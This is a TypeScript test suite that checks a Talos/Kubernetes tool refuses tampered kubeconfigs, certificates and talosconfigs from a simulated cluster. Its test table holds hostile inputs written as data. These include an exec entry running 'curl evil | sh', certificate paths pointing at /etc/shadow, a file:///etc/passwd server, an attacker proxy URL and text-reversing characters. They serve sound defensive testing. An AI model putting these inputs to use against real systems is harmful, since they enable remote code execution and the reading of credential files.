// One piece: a single table of what a cluster may hand out, over one running main.
import { readFileSync, writeFileSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { mintAuthority, type LeafOptions } from '../../main/credentials/mint.ts';
import type { ClientConfiguration } from '../../main/simulator/cluster/hands-out.ts';
import { startSimulator, type Simulator, type TalosconfigWish } from '../../main/simulator/simulator.ts';
import type {
  Failure,
  FetchedKubeconfigs,
  KubeconfigLines,
  KubeconfigPreview,
  RenewalPlan,
} from '../../preload/contract/index.ts';
import { hasKubectl, kubectl } from '../fakes/kubectl.ts';
import { kubeconfigText, OTHERS } from '../main/kubeconfig/samples.ts';
import { expectHeld } from './support/bounds.ts';
import { StartedMain } from './support/start-main.ts';

const HOUR_MS = 3_600_000;
const base64 = (text: string): string => Buffer.from(text).toString('base64');

let simulator: Simulator;
let main: StartedMain;
let saved: string;
let folder: string;

beforeAll(async () => {
  simulator = await startSimulator({ controlPlanes: 1, workers: 0, baseAddress: '127.0.0.81' });
  folder = await mkdtemp(join(tmpdir(), 'minos-issued-'));
  saved = join(folder, 'issued.yaml');
  main = await StartedMain.start({
    talosconfigText: `# mine\n${simulator.talosconfig}`,
    files: { '.kube/config': OTHERS },
    savesTo: saved,
  });
  await main.rest();
}, 120_000);

afterAll(async () => {
  try {
    await expectHeld(main);
  } finally {
    await main[Symbol.asyncDispose]();
    await simulator.close();
    await rm(folder, { recursive: true });
  }
});

const kubePath = (): string => join(main.home, '.kube/config');
const talosPath = (): string => join(main.home, 'config');
let before: readonly string[];
const filesNow = (): readonly string[] => [kubePath(), talosPath()].map((path) => readFileSync(path, 'latin1'));
beforeEach(() => {
  simulator.handOut({});
  before = filesNow();
});

/** The failure of a call, with every file as it was. */
async function refused(name: string, input: unknown): Promise<Failure> {
  const outcome = await main.call(name, input);
  expect(filesNow()).toEqual(before);
  if (outcome.ok) throw new Error(`${name} was not refused`);
  return outcome.failure;
}

async function value<T>(name: string, input: unknown): Promise<T> {
  const outcome = await main.call(name, input);
  if (!outcome.ok) throw new Error(`${name}: ${outcome.failure.message}`);
  return outcome.value as T;
}

/** What Talos hands out, and the same with something done to it. */
interface Parts {
  readonly text: string;
  readonly server: string;
  readonly ca: string;
  readonly cert: string;
  readonly key: string;
}

function partsOf(real: string): Parts {
  const field = (name: string): string => new RegExp(`${name}: "?([^"\\s]+)`).exec(real)?.[1] ?? '';
  const parts = {
    server: field('server'),
    ca: field('certificate-authority-data'),
    cert: field('client-certificate-data'),
    key: field('client-key-data'),
  };
  return { ...parts, text: kubeconfigText('sim', parts.server, parts.ca, parts.cert, parts.key) };
}

type Spoil = (parts: Parts) => string | Promise<string>;

const inUser = (lines: string): Spoil => after('  user:\n', lines);
const inCluster = (lines: string): Spoil => after('  cluster:\n', lines);
const after =
  (place: string, lines: string): Spoil =>
  ({ text }) =>
    text.replace(place, () => place + lines);
const instead =
  (found: string | RegExp, put: string): Spoil =>
  ({ text }) =>
    text.replace(found, () => put);
const server = (address: string): Spoil => instead(/server: .*/, `server: ${address}`);
const named = (name: string): Spoil => instead(/(?<=name: |user: )admin@sim$|(?<=current-context: )admin@sim$/gm, name);

/** A kubeconfig whose certificate is of our own making. */
const issued =
  (leaf: LeafOptions, how: { readonly foreign?: boolean; readonly cas?: number } = {}): Spoil =>
  async (parts) => {
    const authority = await mintAuthority('kubernetes', { keyAlgorithm: 'ecdsa' });
    const { certPem, keyPem } = await authority.issue({
      organizations: ['system:masters'],
      commonName: 'admin',
      keyAlgorithm: 'ecdsa',
      ...leaf,
    });
    const ca = how.foreign ? parts.ca : base64(authority.certPem.repeat(how.cas ?? 1));
    return kubeconfigText('sim', parts.server, ca, base64(certPem), base64(keyPem));
  };
const withKey =
  (make: (parts: Parts) => string | Promise<string>): Spoil =>
  async (parts) =>
    parts.text.replace(parts.key, await make(parts));

const KUBECONFIGS: readonly (readonly [string, Spoil, RegExp])[] = [
  ['a program (exec)', inUser('    exec: {command: sh, args: [-c, "curl evil | sh"]}\n'), /user\.exec .*run a program/],
  ['an auth provider', inUser('    auth-provider: {name: gcp, config: {cmd-path: sh}}\n'), /auth-provider .*program/],
  ['a file with a token', inUser('    tokenFile: /home/ada/.ssh/id\n'), /tokenFile .*read a file/],
  ['a token', inUser('    token: abc\n'), /user\.token .*signs in otherwise/],
  ['a user name', inUser('    username: a\n    password: b\n'), /user\.username .*signs in otherwise/],
  ['a certificate as a path', inUser('    client-certificate: /etc/shadow\n'), /client-certificate .*read a file/],
  ['a key as a path', inUser('    client-key: //evil/share/key\n'), /client-key .*read a file/],
  ['impersonation', inUser('    as: system:admin\n'), /user\.as .*somebody else/],
  ['groups to act as', inUser('    as-groups: [x]\n'), /as-groups .*somebody else/],
  ['an extension', inUser('    extensions: []\n'), /extensions .*other programs/],
  ['an authority as a path', inCluster('    certificate-authority: /ca\n'), /certificate-authority .*read a file/],
  ['no verification', inCluster('    insecure-skip-tls-verify: true\n'), /insecure-skip-tls-verify .*who answers/],
  ['a proxy', inCluster('    proxy-url: http://evil:1\n'), /proxy-url .*another machine/],
  ['another name for TLS', inCluster('    tls-server-name: evil\n'), /tls-server-name .*another name/],
  ['an unknown field', inCluster('    newThing: 1\n'), /newThing .*nothing that Talos hands out/],
  ['an unknown field at the top', after('kind: Config\n', 'plugins: []\n'), /plugins .*nothing that Talos/],
  ['a field whose name turns the text', inUser('    "exe\\u202ec": 1\n'), /exe\\u\{202e\}c/],
  ['a hidden preference', after('kind: Config\n', 'preferences: {x: y}\n'), /preferences\.x/],
  ['two users', after('users:\n', '- name: b\n  user: {token: a}\n'), /users .*2 entries.*exactly one/],
  ['two clusters', after('clusters:\n', '- name: b\n  cluster: {server: "https://b"}\n'), /clusters .*2 entries/],
  ['two contexts', after('contexts:\n', '- name: b\n  context: {}\n'), /contexts .*2 entries/],
  ['no user', instead(/users:\n[^]*?(?=contexts)/, 'users: []\n'), /users .*0 entries/],
  ['http', server('http://10.0.0.1:6443'), /server .*http:\/\//],
  ['another scheme', server('file:///etc/passwd'), /does not begin with https/],
  ['a server with a password', server('https://a:b@10.0.0.1:6443'), /user name or password/],
  ['a server of 3,000 characters', server(`https://${'a.'.repeat(1500)}b:6443`), /characters long/],
  ['a server with a control code', server('"https://a\\u001b[2J:6443"'), /server .*not seen/],
  ['a server with signs of another script', server('https://\u0430pi.example:6443'), /not ASCII/],
  ['a server that reads two ways', server('https://0x7f.1:6443'), /two addresses/],
  ['a server with a query', server('https://a:6443/?x'), /query/],
  ['a server without a port that exists', server('https://a:99999'), /no address/],
  ['a tag', server('!!str https://a:6443'), /a tag/],
  ['an anchor', server('&a https://a:6443'), /an anchor/],
  ['an alias', instead(/server: (.*)\n/, 'server: &x https://a\n    proxy-url: *x\n'), /anchor|alias|proxy/],
  ['a merge key', inUser('    <<: {exec: {command: sh}}\n'), /<< .*copies fields/],
  ['a field twice', inCluster('    server: https://b:6443\n'), /server .*appears twice/],
  ['a second document', ({ text }) => `${text}---\nusers: []\n`, /second document/],
  ['a name that turns the text', named('"admin\\u202emis"'), /name .*not seen/],
  ['a name with a control code', named('"admin\\u0007"'), /name .*not seen/],
  ['a name of 5,000 characters', named('a'.repeat(5000)), /5000 characters long/],
  ['an empty name', named('""'), /name .*empty/],
  ['a current context that is none', instead(/current-context: .*/, 'current-context: other'), /current-context/],
  ['a context of another cluster', instead(/cluster: sim/, 'cluster: corp'), /context\.cluster .*not the one/],
  ['120 authorities', issued({}, { cas: 120 }), /certificate-authority-data (has|holds)/],
  ['17 authorities', issued({}, { cas: 17 }), /holds 17 certificates/],
  [
    'an authority that cannot be read',
    instead(
      /(certificate-authority-data: ).*/,
      `certificate-authority-data: ${base64('-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n')}`,
    ),
    /cannot be read/,
  ],
  [
    'an authority that is no base64',
    instead(/certificate-authority-data: .*/, 'certificate-authority-data: "%%%"'),
    /not base64/,
  ],
  [
    'a key among the authorities',
    ({ text, ca, key }) =>
      text.replace(ca, base64(Buffer.from(ca, 'base64').toString() + Buffer.from(key, 'base64').toString())),
    /beside certificates/,
  ],
  ['an expired certificate', issued({ notBeforeMs: 0, notAfterMs: Date.now() - HOUR_MS }), /ended on/],
  ['a certificate of tomorrow', issued({ notBeforeMs: Date.now() + HOUR_MS }), /valid only from/],
  ['a certificate of another authority', issued({}, { foreign: true }), /none of the authorities/],
  ['a server’s certificate', issued({ eku: 'serverAuth' }), /not for clients/],
  [
    'two certificates',
    ({ text, cert }) => text.replace(cert, base64(Buffer.from(cert, 'base64').toString().repeat(2))),
    /2 certificates instead of one/,
  ],
  [
    'a key of another certificate',
    withKey(async () => base64((await (await mintAuthority('x')).issue({ keyAlgorithm: 'ecdsa' })).keyPem)),
    /does not belong/,
  ],
  [
    'a key of another kind',
    withKey(async () => base64((await (await mintAuthority('x')).issue({ keyAlgorithm: 'rsa' })).keyPem)),
    /does not belong/,
  ],
  ['a key that is none', withKey(({ cert }) => cert), /something else than one key/],
  ['an empty text', () => '', /no mapping/],
  ['a text of half a megabyte', ({ text }) => `${text}# ${'x'.repeat(500_000)}`, /characters; Talos's have about/],
  ['no YAML', () => '[,,,,', /no kubeconfig/],
];

describe('a kubeconfig with', () => {
  test.each(KUBECONFIGS)('%s is refused in words, and no file changes', async (_name, spoil, words) => {
    simulator.handOut({ kubeconfig: (real) => spoil(partsOf(real)) });

    const failure = await refused('kubeconfig.fetch', { contexts: ['sim'] });

    expect(failure.code).toBe('invalid');
    expect(failure.message).toMatch(words);
    expect(failure.message.length).toBeLessThan(400);
    expect(failure.message).not.toMatch(/[\p{Cc}\p{Cf}]/u);
    expect(failure.hint).toContain('talosctl kubeconfig');
  });

  test('everything as Talos makes it is merged, and kubectl agrees', async () => {
    simulator.handOut({ kubeconfig: (real) => partsOf(real).text });
    const { token } = await value<FetchedKubeconfigs>('kubeconfig.fetch', { contexts: ['sim'] });
    const wish = { token, choice: 'refresh', setCurrent: false, asTalosctl: false };
    const preview = await value<KubeconfigPreview>('kubeconfig.preview', wish);
    await value('plans.apply', { token: preview.token });

    const merged = readFileSync(kubePath(), 'utf8');
    expect(merged).toContain('admin@sim');
    if (hasKubectl) {
      const raw = await kubectl(kubePath(), 'config', 'view', '--raw', '-o', 'json');
      const { users, clusters } = JSON.parse(raw) as Record<
        'users' | 'clusters',
        { name: string; [more: string]: unknown }[]
      >;
      expect(users.find(({ name }) => name === 'admin@sim')).toEqual({
        name: 'admin@sim',
        user: {
          'client-certificate-data': expect.any(String) as string,
          'client-key-data': expect.any(String) as string,
        },
      });
      expect(clusters.find(({ name }) => name === 'sim')).toMatchObject({
        cluster: { server: expect.stringMatching(/^https:/) as string },
      });
    }
    writeFileSync(kubePath(), OTHERS);
  });
});

describe('a difference too long to be seen at once', () => {
  test('is not written before the page was sent every line that it adds', async () => {
    const cluster = { server: `https://far.example/${'x'.repeat(450)}` };
    const clusters = Array.from({ length: 900 }, (_, i) => ({ name: `c${i}`, cluster }));
    // One line, so that a merge changes all of it.
    writeFileSync(kubePath(), JSON.stringify({ apiVersion: 'v1', kind: 'Config', clusters, users: [], contexts: [] }));
    before = filesNow();
    const fetched = await value<FetchedKubeconfigs>('kubeconfig.fetch', { contexts: ['sim'] });
    const wish = { token: fetched.token, choice: 'refresh', setCurrent: false, asTalosctl: false };
    const { token, files } = await value<KubeconfigPreview>('kubeconfig.preview', wish);
    const [{ file, diff, addedLeft, telling }] = files as unknown as [KubeconfigPreview['files'][number]];

    expect(addedLeft).toBeGreaterThan(0);
    expect(telling[0]?.text).toContain('far.example');
    expect(await refused('plans.apply', { token })).toMatchObject({ code: 'precondition' });
    expect(await refused('kubeconfig.previewLines', { token, file: file.id, from: 99_999 })).toMatchObject({
      code: 'invalid',
    });
    let from = diff.length;
    for (let left = addedLeft; left > 0;) {
      const more = await value<KubeconfigLines>('kubeconfig.previewLines', { token, file: file.id, from });
      from += more.lines.length;
      left = more.addedLeft;
    }
    await value('plans.apply', { token });

    expect(readFileSync(kubePath(), 'utf8')).toContain('admin@sim');
    writeFileSync(kubePath(), OTHERS);
  });
});

/** A certificate of the cluster's own authority that differs in something. */
const client =
  (wish: TalosconfigWish) =>
  async (real: ClientConfiguration): Promise<ClientConfiguration> => {
    const { certPem, keyPem } = await simulator.contextFor(wish);
    return withParts(real, { crt: certPem, key: keyPem });
  };

/** The talosconfig follows, so that only the certificate is wrong. */
function withParts(real: ClientConfiguration, parts: Partial<ClientConfiguration>): ClientConfiguration {
  let { talosconfig } = real;
  for (const field of ['ca', 'crt', 'key'] as const) {
    const put = parts[field];
    if (put !== undefined) talosconfig = talosconfig.replace(base64(real[field]), base64(put));
  }
  return { ...real, ...parts, talosconfig };
}

async function foreign(real: ClientConfiguration, withCa: boolean): Promise<ClientConfiguration> {
  const authority = await mintAuthority('talos');
  const leaf = await authority.issue({ organizations: ['os:admin'], notAfterMs: Date.now() + 8760 * HOUR_MS });
  return withParts(real, { crt: leaf.certPem, key: leaf.talosKeyPem, ...(withCa && { ca: authority.certPem }) });
}

const YEAR_MS = 8760 * HOUR_MS;
const CERTIFICATES: readonly (readonly [
  string,
  (real: ClientConfiguration) => ClientConfiguration | Promise<ClientConfiguration>,
  RegExp,
])[] = [
  ['of another authority', (real) => foreign(real, false), /none of the authorities/],
  ['of another authority that is handed out with it', (real) => foreign(real, true), /another authority/],
  [
    'with a second authority beside it',
    async (real) => withParts(real, { ca: real.ca + (await mintAuthority('talos')).certPem }),
    /another authority/,
  ],
  ['that begins tomorrow', client({ notBeforeMs: Date.now() + 24 * HOUR_MS, ttlMs: YEAR_MS }), /valid only from/],
  ['that has ended', client({ ttlMs: -HOUR_MS, notBeforeMs: Date.now() - 2 * HOUR_MS }), /ended on/],
  ['that lasts a minute', client({ ttlMs: 60_000, notBeforeMs: Date.now() }), /valid for \d+ min where 8760 h/],
  ['that lasts ten years', client({ ttlMs: 10 * YEAR_MS }), /valid for 8760\d h where 8760 h/],
  ['with fewer roles', client({ roles: [], ttlMs: YEAR_MS }), /has no role where os:admin was/],
  [
    'with more roles',
    client({ roles: ['os:admin', 'os:impersonator'], ttlMs: YEAR_MS }),
    /os:impersonator where os:admin was/,
  ],
  ['with other roles', client({ roles: ['os:reader'], ttlMs: YEAR_MS }), /has os:reader where os:admin was/],
  ['of another subject', client({ commonName: 'mallory', ttlMs: YEAR_MS }), /another subject \(CN=mallory\)/],
  [
    'with a key of another kind',
    client({ keyAlgorithm: 'ecdsa', ttlMs: YEAR_MS }),
    /another kind \(ec, not ed25519\)|cannot be read/,
  ],
  ['for a server', client({ usages: ['serverAuth'], ttlMs: YEAR_MS }), /not for clients/],
  [
    'with the key of another',
    async (real) => withParts(real, { key: (await simulator.contextFor({})).keyPem }),
    /key does not belong/,
  ],
  ['that is none', (real) => withParts(real, { crt: 'hello' }), /crt holds no PEM/],
  ['that is the authority itself', (real) => withParts(real, { crt: real.ca }), /crt holds an authority/],
  ['of five megabytes', (real) => withParts(real, { crt: real.crt.repeat(6000) }), /too much for certificates/],
];

describe('a renewed certificate', () => {
  test.each(CERTIFICATES)('%s is refused in words, and the one in use stays', async (_name, spoil, words) => {
    simulator.handOut({ client: spoil });

    const failure = await refused('contexts.renew', { context: 'sim' });

    expect(failure.code).toBe('invalid');
    expect(failure.message).toMatch(words);
    expect(failure.hint).toContain('the certificate in use stays');
  });

  test('as it was asked for replaces the one in use', async () => {
    const { token, after: facts } = await value<RenewalPlan>('contexts.renew', { context: 'sim' });
    await value('plans.apply', { token });

    expect(facts.roles).toEqual(['os:admin']);
    expect(filesNow()[1]).not.toBe(before[1]);
  });
});

const context = (name: string, { ca, crt, key }: ClientConfiguration): string =>
  `    ${name}:\n        ca: ${base64(ca)}\n        crt: ${base64(crt)}\n        key: ${base64(key)}\n`;
const talosconfig =
  (make: (real: ClientConfiguration) => string) =>
  (real: ClientConfiguration): ClientConfiguration => ({ ...real, talosconfig: make(real) });

const TALOSCONFIGS: readonly (readonly [
  string,
  (real: ClientConfiguration) => ClientConfiguration | Promise<ClientConfiguration>,
  RegExp,
])[] = [
  [
    'with another role than asked for',
    client({ roles: ['os:admin'], ttlMs: 24 * HOUR_MS }),
    /has os:admin where os:reader was/,
  ],
  ['that lasts a year instead of a day', client({ roles: ['os:reader'], ttlMs: YEAR_MS }), /where 24 h were asked/],
  ['of another authority', (real) => foreign(real, true), /another authority/],
  [
    'with a second context',
    talosconfig((real) => `context: a\ncontexts:\n${context('a', real)}${context('b', real)}`),
    /2 contexts instead of one/,
  ],
  ['without any', talosconfig(() => 'context: a\ncontexts: {}\n'), /0 contexts/],
  [
    'whose certificate is not the one beside it',
    talosconfig((real) => real.talosconfig.replace(base64(real.crt), base64(real.ca))),
    /crt in the answer/,
  ],
  ['with a proxy', talosconfig((real) => real.talosconfig + '        proxy-url: http://evil:1\n'), /has proxy-url/],
  ['with an unknown field', talosconfig((real) => real.talosconfig + '        exec: sh\n'), /has exec/],
  [
    'whose name turns the text',
    talosconfig((real) => real.talosconfig.replaceAll('reader@sim', '"reader\\u202e"')),
    /name .*not seen/,
  ],
];

describe('an issued talosconfig', () => {
  const wish = { context: 'sim', roles: ['os:reader'], hours: 24 };

  test.each(TALOSCONFIGS)('%s is refused in words and not saved', async (_name, spoil, words) => {
    simulator.handOut({ client: spoil });

    const failure = await refused('contexts.issue', wish);

    expect(failure.message).toMatch(words);
    expect(() => readFileSync(saved)).toThrow('ENOENT');
  });

  test('is written anew: endpoints, nodes and comments of the answer do not get into the file', async () => {
    simulator.handOut({
      client: talosconfig(
        ({ talosconfig: text }) =>
          `# hello\n${text.replace('endpoints: []', 'endpoints: [203.0.113.9]')}        nodes: [203.0.113.8]\n`,
      ),
    });
    await value('contexts.issue', wish);

    const text = readFileSync(saved, 'utf8');
    expect(text).not.toMatch(/hello|203\.0\.113/);
    expect(text).toContain('reader@sim');
    expect(text).toContain(simulator.endpoints[0]?.target);
  });
});
